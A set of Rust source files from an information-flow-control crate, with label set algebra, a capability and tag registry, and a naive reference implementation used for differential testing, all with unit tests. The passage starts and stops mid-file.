        Label(v)
    }

    /// Number of tags in the label.
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// True if the label contains no tags.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Membership test (binary search).
    pub fn contains(&self, tag: Tag) -> bool {
        self.0.binary_search(&tag).is_ok()
    }

    /// Iterate tags in ascending order.
    pub fn iter(&self) -> impl Iterator<Item = Tag> + '_ {
        self.0.iter().copied()
    }

    /// The underlying sorted slice.
    pub fn as_slice(&self) -> &[Tag] {
        &self.0
    }

    /// `self ⊆ other`, by linear merge (O(|self| + |other|)).
    pub fn is_subset(&self, other: &Label) -> bool {
        if self.0.len() > other.0.len() {
            return false;
        }
        let mut oi = other.0.iter();
        'outer: for t in &self.0 {
            for o in oi.by_ref() {
                match o.cmp(t) {
                    std::cmp::Ordering::Less => continue,
                    std::cmp::Ordering::Equal => continue 'outer,
                    std::cmp::Ordering::Greater => return false,
                }
            }
            return false;
        }
        true
    }

    /// `self ∪ other`.
    pub fn union(&self, other: &Label) -> Label {
        let mut out = Vec::with_capacity(self.0.len() + other.0.len());
        let (mut i, mut j) = (0, 0);
        while i < self.0.len() && j < other.0.len() {
            match self.0[i].cmp(&other.0[j]) {
                std::cmp::Ordering::Less => {
                    out.push(self.0[i]);
                    i += 1;
                }
                std::cmp::Ordering::Greater => {
                    out.push(other.0[j]);
                    j += 1;
                }
                std::cmp::Ordering::Equal => {
                    out.push(self.0[i]);
                    i += 1;
                    j += 1;
                }
            }
        }
        out.extend_from_slice(&self.0[i..]);
        out.extend_from_slice(&other.0[j..]);
        Label(out)
    }

    /// `self ∩ other`.
    pub fn intersection(&self, other: &Label) -> Label {
        let mut out = Vec::with_capacity(self.0.len().min(other.0.len()));
        let (mut i, mut j) = (0, 0);
        while i < self.0.len() && j < other.0.len() {
            match self.0[i].cmp(&other.0[j]) {
                std::cmp::Ordering::Less => i += 1,
                std::cmp::Ordering::Greater => j += 1,
                std::cmp::Ordering::Equal => {
                    out.push(self.0[i]);
                    i += 1;
                    j += 1;
                }
            }
        }
        Label(out)
    }

    /// `self − other`.
    pub fn difference(&self, other: &Label) -> Label {
        let mut out = Vec::with_capacity(self.0.len());
        let (mut i, mut j) = (0, 0);
        while i < self.0.len() {
            if j >= other.0.len() {
                out.extend_from_slice(&self.0[i..]);
                break;
            }
            match self.0[i].cmp(&other.0[j]) {
                std::cmp::Ordering::Less => {
                    out.push(self.0[i]);
                    i += 1;
                }
                std::cmp::Ordering::Greater => j += 1,
                std::cmp::Ordering::Equal => {
                    i += 1;
                    j += 1;
                }
            }
        }
        Label(out)
    }

    /// A copy of `self` with `tag` inserted.
    pub fn with(&self, tag: Tag) -> Label {
        match self.0.binary_search(&tag) {
            Ok(_) => self.clone(),
            Err(pos) => {
                let mut v = self.0.clone();
                v.insert(pos, tag);
                Label(v)
            }
        }
    }

    /// A copy of `self` with `tag` removed.
    pub fn without(&self, tag: Tag) -> Label {
        match self.0.binary_search(&tag) {
            Ok(pos) => {
                let mut v = self.0.clone();
                v.remove(pos);
                Label(v)
            }
            Err(_) => self.clone(),
        }
    }

    /// The ledger-side image of this label: raw sorted tag ids. Lossless
    /// for clearance purposes (subset tests commute with the conversion).
    pub fn to_obs(&self) -> w5_obs::ObsLabel {
        w5_obs::ObsLabel::from_sorted(self.0.iter().map(|t| t.raw()).collect())
    }

    /// True if the labels share no tags.
    pub fn is_disjoint(&self, other: &Label) -> bool {
        let (mut i, mut j) = (0, 0);
        while i < self.0.len() && j < other.0.len() {
            match self.0[i].cmp(&other.0[j]) {
                std::cmp::Ordering::Less => i += 1,
                std::cmp::Ordering::Greater => j += 1,
                std::cmp::Ordering::Equal => return false,
            }
        }
        true
    }
}

impl fmt::Debug for Label {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{{")?;
        for (i, t) in self.0.iter().enumerate() {
            if i > 0 {
                write!(f, ",")?;
            }
            write!(f, "{t}")?;
        }
        write!(f, "}}")
    }
}

impl FromIterator<Tag> for Label {
    fn from_iter<I: IntoIterator<Item = Tag>>(iter: I) -> Label {
        Label::from_iter(iter)
    }
}

impl<'a> IntoIterator for &'a Label {
    type Item = Tag;
    type IntoIter = std::iter::Copied<std::slice::Iter<'a, Tag>>;
    fn into_iter(self) -> Self::IntoIter {
        self.0.iter().copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn l(ids: &[u64]) -> Label {
        Label::from_iter(ids.iter().map(|&i| Tag::from_raw(i)))
    }

    #[test]
    fn from_iter_sorts_and_dedups() {
        let a = l(&[3, 1, 2, 3, 1]);
        assert_eq!(a.as_slice(), &[Tag::from_raw(1), Tag::from_raw(2), Tag::from_raw(3)]);
    }

    #[test]
    fn subset_basic() {
        assert!(l(&[]).is_subset(&l(&[])));
        assert!(l(&[]).is_subset(&l(&[1])));
        assert!(l(&[1]).is_subset(&l(&[1, 2])));
        assert!(l(&[1, 2]).is_subset(&l(&[1, 2])));
        assert!(!l(&[1, 3]).is_subset(&l(&[1, 2])));
        assert!(!l(&[1]).is_subset(&l(&[])));
        assert!(!l(&[1, 2, 3]).is_subset(&l(&[1, 2])));
    }

    #[test]
    fn union_intersection_difference() {
        let a = l(&[1, 2, 4]);
        let b = l(&[2, 3]);
        assert_eq!(a.union(&b), l(&[1, 2, 3, 4]));
        assert_eq!(a.intersection(&b), l(&[2]));
        assert_eq!(a.difference(&b), l(&[1, 4]));
        assert_eq!(b.difference(&a), l(&[3]));
    }

    #[test]
    fn with_without() {
        let a = l(&[1, 3]);
        assert_eq!(a.with(Tag::from_raw(2)), l(&[1, 2, 3]));
        assert_eq!(a.with(Tag::from_raw(1)), a);
        assert_eq!(a.without(Tag::from_raw(3)), l(&[1]));
        assert_eq!(a.without(Tag::from_raw(9)), a);
    }

    #[test]
    fn disjoint() {
        assert!(l(&[1, 2]).is_disjoint(&l(&[3, 4])));
        assert!(!l(&[1, 2]).is_disjoint(&l(&[2, 3])));
        assert!(l(&[]).is_disjoint(&l(&[1])));
    }

    #[test]
    fn contains_uses_binary_search() {
        let a = l(&[2, 4, 6, 8]);
        assert!(a.contains(Tag::from_raw(6)));
        assert!(!a.contains(Tag::from_raw(5)));
    }

    #[test]
    fn debug_format() {
        assert_eq!(format!("{:?}", l(&[1, 2])), "{t1,t2}");
        assert_eq!(format!("{:?}", l(&[])), "{}");
    }
}
