//! Labels: sorted sets of tags with cheap set algebra.
//!
//! Labels are the hot data structure of the whole platform — every IPC send,
//! file access and database row visit performs label comparisons — so the
//! representation is tuned for the traffic we actually see:
//!
//! * **Inline small labels.** `{}` (public data) and `{e_u}` (one user's
//!   secret) dominate real traffic, with `{e_u, e_v}` mashups a distant
//!   third. Labels of 0–2 tags are stored inline in the `Label` value with
//!   no heap allocation at all; only larger sets spill to a `Vec<Tag>`.
//!   Cloning a small label is a `memcpy`.
//! * Subset / equality checks are linear merges with no allocation.
//! * Union / intersection / difference are single-pass merges that build
//!   inline when the result fits.
//! * Repeated labels can be *interned* (see [`crate::intern`]) down to a
//!   `u32` id, making equality an integer compare and memoizing subset
//!   results globally.
//!
//! Labels are immutable in spirit: all operations return new labels, which
//! keeps sharing across threads trivial.

use crate::tag::Tag;
use std::fmt;
use std::hash::{Hash, Hasher};

/// Tags stored inline before spilling to the heap. `{}` and `{e_u}` are the
/// overwhelmingly common labels; two slots also covers pairwise mashups.
const INLINE_CAP: usize = 2;

/// Padding value for unused inline slots (never observable: `as_slice`
/// truncates to `len`).
fn pad() -> Tag {
    Tag::from_raw(u64::MAX)
}

#[derive(Clone)]
enum Repr {
    /// 0–2 tags stored without heap allocation. Slots `>= len` hold an
    /// arbitrary pad value.
    Inline { len: u8, tags: [Tag; INLINE_CAP] },
    /// 3+ tags, sorted and deduplicated.
    Heap(Vec<Tag>),
}

/// A set of [`Tag`]s. Invariant: the backing storage is sorted, contains no
/// duplicates, and uses the inline representation iff it holds
/// `<= INLINE_CAP` tags (so representation is canonical per tag set).
#[derive(Clone)]
pub struct Label(Repr);

/// Builds a label from ascending pushes, staying inline while the result
/// fits. Spills to a heap vector on overflow.
struct LabelBuf(Repr);

impl LabelBuf {
    fn new() -> LabelBuf {
        LabelBuf(Repr::Inline { len: 0, tags: [pad(); INLINE_CAP] })
    }

    /// Push a tag strictly greater than every tag pushed so far.
    fn push(&mut self, t: Tag) {
        match &mut self.0 {
            Repr::Inline { len, tags } => {
                if (*len as usize) < INLINE_CAP {
                    tags[*len as usize] = t;
                    *len += 1;
                } else {
                    let mut v = Vec::with_capacity(INLINE_CAP * 2);
                    v.extend_from_slice(&tags[..]);
                    v.push(t);
                    self.0 = Repr::Heap(v);
                }
            }
            Repr::Heap(v) => v.push(t),
        }
    }

    fn extend_from_slice(&mut self, ts: &[Tag]) {
        for &t in ts {
            self.push(t);
        }
    }

    fn into_label(self) -> Label {
        Label(self.0)
    }
}

impl Label {
    /// The empty label (public data / no integrity claims). Never allocates.
    pub fn empty() -> Label {
        Label(Repr::Inline { len: 0, tags: [pad(); INLINE_CAP] })
    }

    /// A label containing a single tag. Never allocates.
    pub fn singleton(tag: Tag) -> Label {
        Label(Repr::Inline { len: 1, tags: [tag, pad()] })
    }

    /// Build from an unsorted, possibly duplicated tag collection.
    /// Deliberately an inherent method, not `FromIterator`, so label
    /// construction stays greppable at call sites.
    #[allow(clippy::should_implement_trait)]
    pub fn from_iter<I: IntoIterator<Item = Tag>>(tags: I) -> Label {
        let mut v: Vec<Tag> = tags.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        Label::from_canonical_vec(v)
    }

    /// Build from a vector that the caller guarantees is sorted and
    /// deduplicated. Checked in debug builds.
    pub fn from_sorted_vec(v: Vec<Tag>) -> Label {
        debug_assert!(v.windows(2).all(|w| w[0] < w[1]), "label vec not strictly sorted");
        Label::from_canonical_vec(v)
    }

    /// Normalize a sorted, deduplicated vector into the canonical repr.
    fn from_canonical_vec(v: Vec<Tag>) -> Label {
        if v.len() <= INLINE_CAP {
            let mut tags = [pad(); INLINE_CAP];
            tags[..v.len()].copy_from_slice(&v);
            Label(Repr::Inline { len: v.len() as u8, tags })
        } else {
            Label(Repr::Heap(v))
        }
    }

    /// True if the label is stored inline (no heap allocation).
    pub fn is_inline(&self) -> bool {
        matches!(self.0, Repr::Inline { .. })
    }

    /// Number of tags in the label.
    pub fn len(&self) -> usize {
        match &self.0 {
            Repr::Inline { len, .. } => *len as usize,
            Repr::Heap(v) => v.len(),
        }
    }

    /// True if the label contains no tags.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Membership test (binary search).
    pub fn contains(&self, tag: Tag) -> bool {
        self.as_slice().binary_search(&tag).is_ok()
    }

    /// Iterate tags in ascending order.
    pub fn iter(&self) -> impl Iterator<Item = Tag> + '_ {
        self.as_slice().iter().copied()
    }

    /// The underlying sorted slice.
    pub fn as_slice(&self) -> &[Tag] {
        match &self.0 {
            Repr::Inline { len, tags } => &tags[..*len as usize],
            Repr::Heap(v) => v,
        }
    }

    /// `self ⊆ other`, by linear merge (O(|self| + |other|)).
    pub fn is_subset(&self, other: &Label) -> bool {
        let (a, b) = (self.as_slice(), other.as_slice());
        if a.len() > b.len() {
            return false;
        }
        let mut oi = b.iter();
        'outer: for t in a {
            for o in oi.by_ref() {
                match o.cmp(t) {
                    std::cmp::Ordering::Less => continue,
                    std::cmp::Ordering::Equal => continue 'outer,
                    std::cmp::Ordering::Greater => return false,
                }
            }
            return false;
        }
        true
    }

    /// `self ∪ other`.
    pub fn union(&self, other: &Label) -> Label {
        let (a, b) = (self.as_slice(), other.as_slice());
        // Subset fast paths keep the common `x ∪ {} `/`x ∪ x` case clone-only.
        if b.is_empty() {
            return self.clone();
        }
        if a.is_empty() {
            return other.clone();
        }
        let mut out = LabelBuf::new();
        let (mut i, mut j) = (0, 0);
        while i < a.len() && j < b.len() {
            match a[i].cmp(&b[j]) {
                std::cmp::Ordering::Less => {
                    out.push(a[i]);
                    i += 1;
                }
                std::cmp::Ordering::Greater => {
                    out.push(b[j]);
                    j += 1;
                }
                std::cmp::Ordering::Equal => {
                    out.push(a[i]);
                    i += 1;
                    j += 1;
                }
            }
        }
        out.extend_from_slice(&a[i..]);
        out.extend_from_slice(&b[j..]);
        out.into_label()
    }

    /// `self ∩ other`.
    pub fn intersection(&self, other: &Label) -> Label {
        let (a, b) = (self.as_slice(), other.as_slice());
        let mut out = LabelBuf::new();
        let (mut i, mut j) = (0, 0);
        while i < a.len() && j < b.len() {
            match a[i].cmp(&b[j]) {
                std::cmp::Ordering::Less => i += 1,
                std::cmp::Ordering::Greater => j += 1,
                std::cmp::Ordering::Equal => {
                    out.push(a[i]);
                    i += 1;
                    j += 1;
                }
            }
        }
        out.into_label()
    }

    /// `self − other`.
    pub fn difference(&self, other: &Label) -> Label {
        let (a, b) = (self.as_slice(), other.as_slice());
        let mut out = LabelBuf::new();
        let (mut i, mut j) = (0, 0);
        while i < a.len() {
            if j >= b.len() {
                out.extend_from_slice(&a[i..]);
                break;
            }
            match a[i].cmp(&b[j]) {
                std::cmp::Ordering::Less => {
                    out.push(a[i]);
                    i += 1;
                }
                std::cmp::Ordering::Greater => j += 1,
                std::cmp::Ordering::Equal => {
                    i += 1;
                    j += 1;
                }
            }
        }
        out.into_label()
    }

    /// A copy of `self` with `tag` inserted.
    pub fn with(&self, tag: Tag) -> Label {
        let a = self.as_slice();
        match a.binary_search(&tag) {
            Ok(_) => self.clone(),
            Err(pos) => {
                let mut out = LabelBuf::new();
                out.extend_from_slice(&a[..pos]);
                out.push(tag);
                out.extend_from_slice(&a[pos..]);
                out.into_label()
            }
        }
    }

    /// A copy of `self` with `tag` removed.
    pub fn without(&self, tag: Tag) -> Label {
        let a = self.as_slice();
        match a.binary_search(&tag) {
            Ok(pos) => {
                let mut out = LabelBuf::new();
                out.extend_from_slice(&a[..pos]);
                out.extend_from_slice(&a[pos + 1..]);
                out.into_label()
            }
            Err(_) => self.clone(),
        }
    }

    /// The ledger-side image of this label: raw sorted tag ids. Lossless
    /// for clearance purposes (subset tests commute with the conversion).
    ///
    /// Goes through the intern table so the conversion is computed once per
    /// distinct tag set and afterwards costs a cache lookup plus an
    /// allocation-free `ObsLabel` clone for small labels.
    pub fn to_obs(&self) -> w5_obs::ObsLabel {
        crate::intern::intern(self).to_obs()
    }

    /// The ledger-side image, computed directly without touching the intern
    /// table (used by the interner itself and by one-shot conversions).
    pub fn to_obs_uncached(&self) -> w5_obs::ObsLabel {
        w5_obs::ObsLabel::from_sorted(self.iter().map(|t| t.raw()).collect())
    }

    /// True if the labels share no tags.
    pub fn is_disjoint(&self, other: &Label) -> bool {
        let (a, b) = (self.as_slice(), other.as_slice());
        let (mut i, mut j) = (0, 0);
        while i < a.len() && j < b.len() {
            match a[i].cmp(&b[j]) {
                std::cmp::Ordering::Less => i += 1,
                std::cmp::Ordering::Greater => j += 1,
                std::cmp::Ordering::Equal => return false,
            }
        }
        true
    }
}

impl Default for Label {
    fn default() -> Label {
        Label::empty()
    }
}

// Equality/hashing are over the logical tag set. The repr is canonical per
// set (inline iff small), but comparing slices keeps that invariant
// non-load-bearing for correctness.
impl PartialEq for Label {
    fn eq(&self, other: &Label) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl Eq for Label {}

impl Hash for Label {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.as_slice().hash(state)
    }
}

impl serde::Serialize for Label {
    fn to_json(&self) -> serde::Json {
        serde::Json::Arr(self.iter().map(|t| serde::Serialize::to_json(&t)).collect())
    }
}

impl serde::Deserialize for Label {
    fn from_json(v: &serde::Json) -> Result<Label, serde::DeError> {
        let tags: Vec<Tag> = serde::Deserialize::from_json(v)?;
        Ok(Label::from_iter(tags))
    }
}

impl fmt::Debug for Label {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{{")?;
        for (i, t) in self.iter().enumerate() {
            if i > 0 {
                write!(f, ",")?;
            }
            write!(f, "{t}")?;
        }
        write!(f, "}}")
    }
}

impl FromIterator<Tag> for Label {
    fn from_iter<I: IntoIterator<Item = Tag>>(iter: I) -> Label {
        Label::from_iter(iter)
    }
}

impl<'a> IntoIterator for &'a Label {
    type Item = Tag;
    type IntoIter = std::iter::Copied<std::slice::Iter<'a, Tag>>;
    fn into_iter(self) -> Self::IntoIter {
        self.as_slice().iter().copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn l(ids: &[u64]) -> Label {
        Label::from_iter(ids.iter().map(|&i| Tag::from_raw(i)))
    }

    #[test]
    fn from_iter_sorts_and_dedups() {
        let a = l(&[3, 1, 2, 3, 1]);
        assert_eq!(a.as_slice(), &[Tag::from_raw(1), Tag::from_raw(2), Tag::from_raw(3)]);
    }

    #[test]
    fn small_labels_stay_inline() {
        assert!(l(&[]).is_inline());
        assert!(l(&[1]).is_inline());
        assert!(l(&[1, 2]).is_inline());
        assert!(!l(&[1, 2, 3]).is_inline());
        // Operations that shrink a heap label back under the cap produce
        // inline results (canonical repr).
        let big = l(&[1, 2, 3, 4]);
        assert!(big.intersection(&l(&[2, 3])).is_inline());
        assert!(big.difference(&l(&[1, 2, 3])).is_inline());
        assert!(big.without(Tag::from_raw(1)).len() == 3);
        // Union that overflows the inline cap spills correctly.
        let u = l(&[1, 2]).union(&l(&[3]));
        assert_eq!(u, l(&[1, 2, 3]));
        assert!(!u.is_inline());
    }

    #[test]
    fn subset_basic() {
        assert!(l(&[]).is_subset(&l(&[])));
        assert!(l(&[]).is_subset(&l(&[1])));
        assert!(l(&[1]).is_subset(&l(&[1, 2])));
        assert!(l(&[1, 2]).is_subset(&l(&[1, 2])));
        assert!(!l(&[1, 3]).is_subset(&l(&[1, 2])));
        assert!(!l(&[1]).is_subset(&l(&[])));
        assert!(!l(&[1, 2, 3]).is_subset(&l(&[1, 2])));
    }

    #[test]
    fn union_intersection_difference() {
        let a = l(&[1, 2, 4]);
        let b = l(&[2, 3]);
        assert_eq!(a.union(&b), l(&[1, 2, 3, 4]));
        assert_eq!(a.intersection(&b), l(&[2]));
        assert_eq!(a.difference(&b), l(&[1, 4]));
        assert_eq!(b.difference(&a), l(&[3]));
    }

    #[test]
    fn with_without() {
        let a = l(&[1, 3]);
        assert_eq!(a.with(Tag::from_raw(2)), l(&[1, 2, 3]));
        assert_eq!(a.with(Tag::from_raw(1)), a);
        assert_eq!(a.without(Tag::from_raw(3)), l(&[1]));
        assert_eq!(a.without(Tag::from_raw(9)), a);
    }

    #[test]
    fn disjoint() {
        assert!(l(&[1, 2]).is_disjoint(&l(&[3, 4])));
        assert!(!l(&[1, 2]).is_disjoint(&l(&[2, 3])));
        assert!(l(&[]).is_disjoint(&l(&[1])));
    }

    #[test]
    fn contains_uses_binary_search() {
        let a = l(&[2, 4, 6, 8]);
        assert!(a.contains(Tag::from_raw(6)));
        assert!(!a.contains(Tag::from_raw(5)));
    }

    #[test]
    fn debug_format() {
        assert_eq!(format!("{:?}", l(&[1, 2])), "{t1,t2}");
        assert_eq!(format!("{:?}", l(&[])), "{}");
    }

    #[test]
    fn eq_and_hash_span_reprs() {
        use std::collections::hash_map::DefaultHasher;
        let a = l(&[5, 9]);
        let b = Label::from_sorted_vec(vec![Tag::from_raw(5), Tag::from_raw(9)]);
        assert_eq!(a, b);
        let hash = |x: &Label| {
            let mut h = DefaultHasher::new();
            x.hash(&mut h);
            h.finish()
        };
        assert_eq!(hash(&a), hash(&b));
    }

    #[test]
    fn serde_roundtrip_is_a_plain_array() {
        let a = l(&[3, 7, 11]);
        let json = serde_json::to_string(&a).unwrap();
        assert_eq!(json, "[3,7,11]");
        let back: Label = serde_json::from_str(&json).unwrap();
        assert_eq!(back, a);
        assert_eq!(serde_json::to_string(&l(&[])).unwrap(), "[]");
    }
}
