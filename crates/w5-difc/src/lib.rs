//! # w5-difc — Decentralized Information Flow Control for W5
//!
//! This crate implements the DIFC model that the W5 paper (*World Wide Web
//! Without Walls*, HotNets 2007) relies on for its security perimeter. The
//! model follows Flume (Krohn et al., SOSP 2007), which the paper names as a
//! sufficient substrate:
//!
//! * [`Tag`] — an opaque identifier for one category of secrecy or integrity.
//! * [`Label`] — a set of tags. Every process, file, database row and message
//!   carries a secrecy label `S` and an integrity label `I`.
//! * [`Capability`] — `t+` (the right to add `t` to a label) or `t-` (the
//!   right to remove it). [`CapSet`] is a bag of capabilities.
//! * [`TagRegistry`] — allocates tags and maintains the *global bag* `Ô` of
//!   capabilities everyone holds. Creating an **export-protection** tag puts
//!   `t+` in the global bag (anyone may classify data under `t`) and hands
//!   the creator `t-` (only they may declassify). A **write-protection** tag
//!   is the dual: `t-` is global, the creator keeps `t+`.
//! * [`rules`] — safe label changes and flow checks between labeled entities.
//! * [`Endpoint`] — Flume-style endpoints: per-channel label adjustments that
//!   a process's privileges could legitimize, checked once at setup so the
//!   per-message check is a raw subset test.
//!
//! The W5 mapping (paper §3.1): each user `u` owns an export-protection tag
//! `e_u` and a write-protection tag `w_u`; all of `u`'s data defaults to
//! `S = {e_u}`, `I = {w_u}`. Untrusted applications may freely *raise* their
//! secrecy to read the data, but only the platform exporter (for `u`'s own
//! browser) or a declassifier that `u` granted `e_u-` can move derived data
//! across the perimeter.
//!
//! Everything here is deliberately small, allocation-conscious and
//! exhaustively tested: this is the component the paper argues must be
//! correct so that nothing else needs to be trusted.

#![forbid(unsafe_code)]

pub mod caps;
pub mod endpoint;
pub mod error;
pub mod intern;
pub mod label;
pub mod naive;
pub mod registry;
pub mod rules;
pub mod tag;
pub mod wire;

pub use caps::{CapSet, Capability, Privilege};
pub use endpoint::Endpoint;
pub use error::{DifcError, DifcResult};
pub use intern::{InternStats, LabelId, PairId, PairIdHasher, PairIdMap};
pub use label::Label;
pub use registry::{TagMeta, TagRegistry};
pub use rules::{can_flow, can_flow_with, labels_for_read, labels_for_write, safe_change, FlowCheck};
pub use tag::{Tag, TagKind};

/// A secrecy/integrity label pair, the complete flow-control state of a
/// passive entity (file, row, message).
#[derive(Clone, Debug, Default, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub struct LabelPair {
    /// Secrecy label: who may learn this datum.
    pub secrecy: Label,
    /// Integrity label: claims about who vouches for this datum.
    pub integrity: Label,
}

impl LabelPair {
    /// An empty (public, unvouched) label pair.
    pub fn public() -> Self {
        Self::default()
    }

    /// Construct from secrecy and integrity labels.
    pub fn new(secrecy: Label, integrity: Label) -> Self {
        Self { secrecy, integrity }
    }

    /// The label pair of data derived from both `self` and `other`:
    /// secrecy accumulates (union), integrity degrades (intersection).
    pub fn combine(&self, other: &LabelPair) -> LabelPair {
        LabelPair {
            secrecy: self.secrecy.union(&other.secrecy),
            integrity: self.integrity.intersection(&other.integrity),
        }
    }

    /// True if both labels are empty — data that anyone may see and no one
    /// vouches for.
    pub fn is_public(&self) -> bool {
        self.secrecy.is_empty() && self.integrity.is_empty()
    }

    /// Intern both halves; the returned [`PairId`] compares, hashes and
    /// combines in a few integer operations.
    pub fn interned(&self) -> PairId {
        PairId::intern(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn combine_accumulates_secrecy_and_degrades_integrity() {
        let t1 = Tag::from_raw(1);
        let t2 = Tag::from_raw(2);
        let w = Tag::from_raw(9);
        let a = LabelPair::new(Label::from_iter([t1]), Label::from_iter([w]));
        let b = LabelPair::new(Label::from_iter([t2]), Label::empty());
        let c = a.combine(&b);
        assert_eq!(c.secrecy, Label::from_iter([t1, t2]));
        assert!(c.integrity.is_empty());
    }

    #[test]
    fn public_pair_is_public() {
        assert!(LabelPair::public().is_public());
        let p = LabelPair::new(Label::from_iter([Tag::from_raw(3)]), Label::empty());
        assert!(!p.is_public());
    }
}
