//! The retained naive reference implementation of label algebra.
//!
//! This module is the pre-interning semantics, kept verbatim: plain
//! `Vec<Tag>` sets, rebuilt and re-sorted on every operation, no sharing,
//! no memoization. It exists for two reasons:
//!
//! 1. **Differential testing.** The interned fast paths in
//!    [`crate::intern`] and the inline representation in [`crate::label`]
//!    are checked against these functions under proptest-generated tag
//!    sets (see `tests/intern_differential.rs`). Any divergence is a
//!    soundness bug in the fast path, full stop.
//! 2. **Benchmark honesty.** `w5-bench`'s `bench_difc_json` binary runs a
//!    "naive" arm through these functions so the speedup claimed for the
//!    interned arm is measured against the real prior implementation by
//!    the same harness, not against a strawman.
//!
//! Nothing in the production call graph uses this module.

use crate::label::Label;
use crate::tag::Tag;

/// Canonicalize: sort and deduplicate.
pub fn canon(mut tags: Vec<Tag>) -> Vec<Tag> {
    tags.sort_unstable();
    tags.dedup();
    tags
}

/// Set union, by concatenate-and-canonicalize (the old `Label::union`
/// cost model: always allocates, always re-sorts).
pub fn union(a: &[Tag], b: &[Tag]) -> Vec<Tag> {
    let mut out = Vec::with_capacity(a.len() + b.len());
    out.extend_from_slice(a);
    out.extend_from_slice(b);
    canon(out)
}

/// Set intersection by per-element linear membership scans.
pub fn intersect(a: &[Tag], b: &[Tag]) -> Vec<Tag> {
    canon(a.iter().copied().filter(|t| b.contains(t)).collect())
}

/// Set difference `a − b` by per-element linear membership scans.
pub fn difference(a: &[Tag], b: &[Tag]) -> Vec<Tag> {
    canon(a.iter().copied().filter(|t| !b.contains(t)).collect())
}

/// `a ⊆ b` by per-element linear membership scans.
pub fn subset(a: &[Tag], b: &[Tag]) -> bool {
    a.iter().all(|t| b.contains(t))
}

/// `can_flow`: data labeled `src` may flow to an entity labeled `dst`
/// with no privilege exercised iff `src ⊆ dst`.
pub fn can_flow(src: &[Tag], dst: &[Tag]) -> bool {
    subset(src, dst)
}

/// `can_flow_with`: Flume's privileged flow rule,
/// `S_src − O_src⁻ ⊆ S_dst ∪ O_dst⁺`.
pub fn can_flow_with(src: &[Tag], src_minus: &[Tag], dst: &[Tag], dst_plus: &[Tag]) -> bool {
    subset(&difference(src, src_minus), &union(dst, dst_plus))
}

/// Convert a slice view of a [`Label`] for feeding the reference ops.
pub fn tags_of(label: &Label) -> Vec<Tag> {
    label.iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(i: u64) -> Tag {
        Tag::from_raw(i)
    }

    #[test]
    fn reference_algebra_basics() {
        let a = vec![t(1), t(2)];
        let b = vec![t(2), t(3)];
        assert_eq!(union(&a, &b), vec![t(1), t(2), t(3)]);
        assert_eq!(intersect(&a, &b), vec![t(2)]);
        assert_eq!(difference(&a, &b), vec![t(1)]);
        assert!(subset(&[t(2)], &a));
        assert!(!subset(&a, &b));
        assert!(can_flow(&[], &a));
        assert!(!can_flow(&a, &b));
        // {1,2} − {1} = {2} ⊆ {3} ∪ {2}
        assert!(can_flow_with(&a, &[t(1)], &[t(3)], &[t(2)]));
        assert!(!can_flow_with(&a, &[t(1)], &[t(3)], &[]));
    }

    #[test]
    fn canon_dedups_unsorted_input() {
        assert_eq!(canon(vec![t(3), t(1), t(3), t(2)]), vec![t(1), t(2), t(3)]);
    }
}
