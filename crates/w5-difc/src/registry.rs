//! Tag allocation and the global capability bag.
//!
//! The registry is the only piece of shared mutable state in the DIFC layer.
//! It is owned by the platform (one per provider) and consulted when tags
//! are created and when the *global bag* `Ô` — capabilities every process
//! implicitly holds — is needed for a flow check.
//!
//! Creating a tag follows the paper's two default policies (§3.1):
//!
//! * **export protection**: `t+` goes in the global bag, the creator
//!   receives `t-` (only they can declassify);
//! * **write protection**: `t-` goes in the global bag, the creator
//!   receives `t+` (only they can endorse).

use crate::caps::{CapSet, Capability};
use crate::tag::{Tag, TagKind};
use w5_sync::RwLock;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};

/// Metadata recorded for every allocated tag.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TagMeta {
    /// The tag itself.
    pub tag: Tag,
    /// Its capability-distribution kind.
    pub kind: TagKind,
    /// A human-readable name, e.g. `"export:bob"`. Names are for audit
    /// logs only and carry no authority.
    pub name: String,
}

/// Allocates tags and tracks the global capability bag.
///
/// Thread-safe; shared as `Arc<TagRegistry>` between the kernel, the store
/// and the platform.
#[derive(Debug)]
pub struct TagRegistry {
    next: AtomicU64,
    meta: RwLock<HashMap<Tag, TagMeta>>,
    global: RwLock<CapSet>,
}

impl Default for TagRegistry {
    fn default() -> Self {
        TagRegistry::new()
    }
}

impl TagRegistry {
    /// A fresh registry with no tags.
    pub fn new() -> TagRegistry {
        TagRegistry {
            next: AtomicU64::new(1),
            meta: RwLock::with_index("difc.registry", 0, HashMap::new()),
            global: RwLock::with_index("difc.registry", 1, CapSet::empty()),
        }
    }

    /// Allocate a new tag of the given kind.
    ///
    /// Returns the tag and the capabilities the *creator* receives. The
    /// public half (if any) is added to the global bag as a side effect.
    pub fn create_tag(&self, kind: TagKind, name: &str) -> (Tag, CapSet) {
        let id = self.next.fetch_add(1, Ordering::Relaxed);
        let tag = Tag::from_raw(id);
        self.meta.write().insert(
            tag,
            TagMeta { tag, kind, name: name.to_string() },
        );
        let mut creator = CapSet::empty();
        let mut global = self.global.write();
        match kind {
            TagKind::ExportProtect => {
                global.insert(Capability::plus(tag));
                creator.insert(Capability::minus(tag));
            }
            TagKind::WriteProtect => {
                global.insert(Capability::minus(tag));
                creator.insert(Capability::plus(tag));
            }
            TagKind::ReadProtect => {
                creator.insert_ownership(tag);
            }
        }
        drop(global);
        // Tag allocation is public metadata (names carry no authority), but
        // which *kind* was chosen shapes the global bag — worth a ledger
        // entry for audit.
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::TagCreate {
                tag: tag.raw(),
                kind: match kind {
                    TagKind::ExportProtect => "export".to_string(),
                    TagKind::WriteProtect => "write".to_string(),
                    TagKind::ReadProtect => "read".to_string(),
                },
            },
        );
        (tag, creator)
    }

